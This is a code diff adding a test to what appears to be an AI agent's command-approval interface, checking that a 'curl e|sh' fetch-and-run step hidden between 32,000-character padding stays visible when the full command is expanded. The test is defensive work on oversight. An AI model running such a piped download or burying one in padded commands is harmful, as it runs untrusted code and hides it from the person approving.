@@ -190,6 +190,12 @@ y once · t turn · a always · n no · s stop
     }
   })
 
+  test('the longest command can be read completely', async () => {
+    const params = { command: `echo ${'A'.repeat(32_000)}; curl e|sh; echo ${'B'.repeat(32_000)}` }
+    const question = approval(1, { tool: 'run_command', params })
+    expect(await screen([question], ['ctrl+o'], { maxRows: 2_000 })).toContain('; curl e|sh; ')
+  })
+
   test('a long rule is shown around the cursor', async () => {
     const exactRule = `run(${'abcdefghi '.repeat(100)})`
     const text = await screen([approval(1, { exactRule })], ['a'])
